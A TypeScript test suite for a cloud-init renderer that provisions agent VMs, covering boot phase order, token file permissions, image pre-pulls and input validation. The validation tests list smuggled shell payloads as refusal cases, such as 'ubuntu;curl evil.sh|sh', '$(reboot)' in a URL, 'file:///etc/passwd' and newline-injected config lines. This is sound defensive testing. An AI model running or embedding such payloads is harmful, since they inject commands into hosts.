// The renderer's output, read as cloud-init reads it: phase order, the agent unit, secrets placement, no
// ghost images, injection refusal and the 32 KiB limit.
import { describe, expect, test } from "bun:test";
import { parse } from "yaml";
import { BACKGROUND_PHASES, bootPlan, PHASE_ORDER } from "./boot-plan.ts";
import { imageReferences } from "./image-references.ts";
import {
  type CloudConfig,
  CloudInitInputError,
  parseCloudInitInput,
  renderCloudInit,
  USER_DATA_LIMIT,
} from "./render.ts";
import { ARM_INPUT, LARGEST_INPUT, SAMPLE_INPUT } from "./sample-inputs.ts";
import { VM } from "./vm-layout.ts";

const render = (input: unknown = SAMPLE_INPUT) => renderCloudInit(input);
const doc = (text: string) => parse(text) as CloudConfig;
const file = (text: string, path: string) => doc(text).write_files.find((f) => f.path === path);

describe("phase order", () => {
  const runcmd = doc(render()).runcmd.join("\n");

  test("every phase is marked, in the designed order", () => {
    const starts = [...runcmd.matchAll(/logger -t sam-boot 'PHASE START: ([a-z0-9-]+)'/g)].map((m) => m[1]);
    expect(starts).toEqual([...PHASE_ORDER]);
    for (const name of PHASE_ORDER) {
      expect(runcmd).toContain(`logger -t sam-boot 'PHASE END: ${name}'`);
      expect(runcmd).toContain(`logger -t sam-boot 'PHASE FAILED: ${name}'`);
    }
  });

  test("the agent starts last; after it the script only waits for the pull and the CLI install, and never restarts Docker", () => {
    const commands = runcmd.split("\n").map((l) => l.trim()).filter((l) =>
      l && !l.startsWith("logger") && !["fi", "else", "(", "then"].includes(l)
    );
    const start = commands.findIndex((c) => c.includes("systemctl enable --now --no-block sam-agent.service"));
    const after = commands.slice(start + 1);
    expect(after).toHaveLength(2);
    expect(after[0]).toContain('wait "$pid_image_pull"');
    expect(after[1]).toBe('if wait "$pid_devcontainer_cli"; then');
    expect(after.join("\n")).not.toMatch(/docker|systemctl/);
    // Docker is restarted at most once, only when daemon.json is newer than the daemon, and then after the
    // pull was waited for.
    const restarts = commands.filter((c) => /systemctl restart docker/.test(c));
    expect(restarts).toHaveLength(1);
    expect(restarts[0]).toMatch(
      /-lt "\$docker_since".*else wait "\$pid_image_pull"; pull_rc=\$\?; systemctl restart docker\.service; fi/,
    );
  });

  test("the pull, the Node.js install, the agent download and the CLI install run as background jobs, each logged", () => {
    expect(BACKGROUND_PHASES).toEqual(
      bootPlan(parseCloudInitInput(SAMPLE_INPUT)).filter((p) => p.background).map((p) => p.name),
    );
    for (const name of BACKGROUND_PHASES) {
      expect(runcmd).toContain(`) >>${VM.bootLogDir}/${name}.log 2>&1 &`);
    }
  });
});

describe("the agent unit and its secrets", () => {
  const text = render();
  const unit = file(text, VM.agentUnit)!.content;

  test("wants Docker but does not require it, restarts always", () => {
    expect(unit).toContain("After=network-online.target docker.service");
    expect(unit).toMatch(/^Wants=.*docker\.service/m);
    expect(unit).not.toMatch(/^Requires=/m);
    expect(unit).not.toMatch(/^BindsTo=/m);
    expect(unit).toMatch(/^Restart=always$/m);
    expect(unit).toMatch(/^ExecStart=\/usr\/local\/bin\/sam-agent$/m);
  });

  test("tokens live only in the 0600 file, never in the unit, the env file or a command", () => {
    const tokens = file(text, VM.tokenFile)!;
    expect(tokens.permissions).toBe("0600");
    expect(tokens.content).toBe(
      `SAM_NODE_TOKEN=${SAMPLE_INPUT.nodeToken}\nSAM_AGENT_TOKEN=${SAMPLE_INPUT.agentToken}\n`,
    );
    expect(unit).not.toMatch(/^Environment=/m);
    const config = doc(text);
    const elsewhere = JSON.stringify({
      ...config,
      write_files: config.write_files.filter((f) => f.path !== VM.tokenFile),
    });
    expect(elsewhere).not.toContain(SAMPLE_INPUT.nodeToken);
    expect(elsewhere).not.toContain(SAMPLE_INPUT.agentToken);
    const env = file(text, VM.agentEnv)!;
    expect(env.permissions).toBe("0644");
    expect(env.content).toContain(`SAM_TOKEN_FILE=${VM.tokenFile}\n`);
    expect(env.content).toContain(`SAM_CONTROL_PLANE_URL=${SAMPLE_INPUT.controlPlaneUrl}\n`);
    // Workspaces without a devcontainer.json use the very image the boot pre-pulled.
    expect(env.content).toContain(`SAM_DEVCONTAINER_IMAGE=${SAMPLE_INPUT.baseImage}\n`);
    expect(env.content).not.toContain("SAM_GIT_");
  });

  test("the operator's commit identity reaches the VM's agent; one that could break out of its line is refused", () => {
    const gitIdentity = { authorName: "SAM Bot", authorEmail: "sam@example.com", committerEmail: "ci@example.com" };
    const env = file(render({ ...SAMPLE_INPUT, gitIdentity }), VM.agentEnv)!.content;
    expect(env).toContain("SAM_GIT_AUTHOR_NAME=SAM Bot\n");
    expect(env).toContain("SAM_GIT_AUTHOR_EMAIL=sam@example.com\n");
    expect(env).toContain("SAM_GIT_COMMITTER_EMAIL=ci@example.com\n");
    expect(env).not.toContain("SAM_GIT_COMMITTER_NAME");
    for (
      const bad of [{ authorName: "x\nSAM_TASK_SANDBOX=off" }, { authorName: 'a"b' }, { authorEmail: "not-an-email" }, {
        authorName: "$(id)",
      }]
    ) {
      expect(() => render({ ...SAMPLE_INPUT, gitIdentity: bad })).toThrow(CloudInitInputError);
    }
  });
});

describe("no ghosts", () => {
  test("the only image a boot fetches is the configured base image", () => {
    for (const input of [SAMPLE_INPUT, ARM_INPUT, { ...SAMPLE_INPUT, baseImage: "ghcr.io/acme/dev:2024.1" }]) {
      expect(imageReferences(render(input))).toEqual([input.baseImage]);
    }
  });

  test("the check catches a leftover pre-pull like the old dead Neko image pre-pull", () => {
    const config = doc(render());
    const ghost = {
      ...config,
      runcmd: [...config.runcmd, "docker pull --quiet ghcr.io/m1k1o/neko/google-chrome:latest"],
    };
    expect(imageReferences(ghost.runcmd.join("\n"))).toContain("ghcr.io/m1k1o/neko/google-chrome:latest");
    expect(imageReferences("docker run --rm -e A=b --name x busybox:1 true")).toEqual(["busybox:1"]);
  });
});

describe("inputs", () => {
  const bad: [string, Record<string, unknown>, string][] = [
    ["a node id with a command", { nodeId: "n1;reboot" }, "nodeId"],
    ["a URL with a quote", { controlPlaneUrl: "https://x.example.com/'$(reboot)'" }, "controlPlaneUrl"],
    ["a URL with a newline", { controlPlaneUrl: "https://x.example.com\nSAM_NODE_ID=other" }, "controlPlaneUrl"],
    ["a URL with credentials", { agentDownloadUrl: "https://user:pw@x.example.com/a" }, "agentDownloadUrl"],
    ["a non-http URL", { agentDownloadUrl: "file:///etc/passwd" }, "agentDownloadUrl"],
    ["an image with a shell operator", { baseImage: "ubuntu;curl evil.sh|sh" }, "baseImage"],
    ["an image with spaces", { baseImage: "ubuntu --privileged" }, "baseImage"],
    ["a short checksum", { agentSha256: "abc" }, "agentSha256"],
    ["a token with a newline", { nodeToken: "samnode_abcdefabcdefabcdef\nSAM_AGENT_TOKEN=x" }, "nodeToken"],
    ["a token of the wrong kind", { agentToken: `samnode_${"a".repeat(40)}` }, "agentToken"],
    ["an unknown arch", { arch: "riscv64" }, "arch"],
    ["port 0", { agentPort: 0 }, "agentPort"],
    ["an SSH key with a second line", { sshKeys: ["ssh-ed25519 AAAA x\nruncmd: [reboot]"] }, "sshKeys.0"],
    ["too many SSH keys", { sshKeys: Array.from({ length: 11 }, () => "ssh-ed25519 AAAA") }, "sshKeys"],
  ];
  for (const [what, patch, field] of bad) {
    test(`refuses ${what}, naming ${field}`, () => {
      expect(() => render({ ...SAMPLE_INPUT, ...patch })).toThrow(CloudInitInputError);
      expect(() => render({ ...SAMPLE_INPUT, ...patch })).toThrow(`cloud-init input: ${field}`);
    });
  }

  test("the largest allowed input fits Hetzner's 32 KiB user-data limit", () => {
    const size = new TextEncoder().encode(render(LARGEST_INPUT)).length;
    expect(size).toBeGreaterThan(10_000);
    expect(size).toBeLessThanOrEqual(USER_DATA_LIMIT);
  });
});
